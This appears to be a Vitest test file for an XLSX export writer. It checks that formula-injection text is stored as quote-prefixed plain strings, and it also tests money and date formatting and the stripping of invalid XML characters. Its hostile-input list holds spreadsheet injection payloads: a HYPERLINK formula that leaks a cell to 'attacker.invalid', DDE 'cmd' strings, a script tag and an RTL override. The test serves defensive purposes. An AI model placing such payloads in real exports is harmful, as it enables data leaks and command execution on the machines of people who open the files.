import { PassThrough } from 'node:stream'
import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import type { ExportColumn } from '../../../../src/main/export/export-columns'
import { writeXlsx } from '../../../../src/main/export/xlsx-writer'

interface Line {
  name: string
  cents: number | null
  day: string | null
}

const columns: ExportColumn<Line>[] = [
  { header: 'Name', kind: 'text', value: (line) => line.name },
  { header: 'Amount', kind: 'cents', value: (line) => line.cents },
  { header: 'Day', kind: 'date', value: (line) => line.day },
]

const HOSTILE_NAMES = [
  '=HYPERLINK("https://attacker.invalid/?leak="&A1,"Click for refund")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=2+2',
  '<script>alert("x")</script>',
  'محمد \u202Eevil\u202C',
  'Zoë 👩🏽‍💻',
]

async function workbookOf(rows: Line[]): Promise<ExcelJS.Worksheet> {
  const target = new PassThrough()
  const chunks: Buffer[] = []
  target.on('data', (chunk: Buffer) => chunks.push(chunk))

  await writeXlsx({ name: 'People', columns, batches: [rows] }, target)

  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(Buffer.concat(chunks) as unknown as ArrayBuffer)
  const sheet = workbook.getWorksheet('People')
  if (!sheet) throw new Error('the workbook has no People sheet')
  return sheet
}

describe('writeXlsx', () => {
  it('writes hostile text as plain, prefixed strings and never as a formula', async () => {
    const sheet = await workbookOf(HOSTILE_NAMES.map((name) => ({ name, cents: 1, day: null })))

    const cells: ExcelJS.Cell[] = []
    sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)))
    for (const cell of cells) {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)
      expect(cell.formula).toBeUndefined()
    }
    const names = HOSTILE_NAMES.map((_, index) => sheet.getCell(index + 2, 1).value)
    expect(names).toEqual([
      `'${HOSTILE_NAMES[0]}`,
      `'${HOSTILE_NAMES[1]}`,
      `'${HOSTILE_NAMES[2]}`,
      `'${HOSTILE_NAMES[3]}`,
      `'${HOSTILE_NAMES[4]}`,
      // A cell holds a line break as a line feed; the quote still leads.
      "'\n=2+2",
      HOSTILE_NAMES[6],
      HOSTILE_NAMES[7],
      HOSTILE_NAMES[8],
    ])
    for (let index = 0; index < HOSTILE_NAMES.length; index++) {
      expect(sheet.getCell(index + 2, 1).type).toBe(ExcelJS.ValueType.String)
    }
  })

  it('writes money as a number of dollars with a currency format', async () => {
    const sheet = await workbookOf([
      { name: 'a', cents: 123456789, day: null },
      { name: 'b', cents: -5, day: null },
    ])

    expect(sheet.getCell('B2').type).toBe(ExcelJS.ValueType.Number)
    expect(sheet.getCell('B2').value).toBe(1234567.89)
    expect(sheet.getCell('B3').value).toBe(-0.05)
    expect(sheet.getCell('B2').numFmt).toContain('#,##0.00')
  })

  it('writes calendar days as dates and a bold, frozen header', async () => {
    const sheet = await workbookOf([{ name: 'a', cents: null, day: '2026-11-30' }])

    expect(sheet.getCell('C2').value).toEqual(new Date('2026-11-30T00:00:00Z'))
    expect(sheet.getRow(1).values).toEqual([undefined, 'Name', 'Amount', 'Day'])
    expect(sheet.getCell('A1').font?.bold).toBe(true)
  })

  it('drops characters XML cannot carry and keeps the rest of the text', async () => {
    const sheet = await workbookOf([{ name: 'Bell\u0007 and null\u0000', cents: null, day: null }])

    expect(sheet.getCell('A2').value).toBe('Bell and null')
  })
})
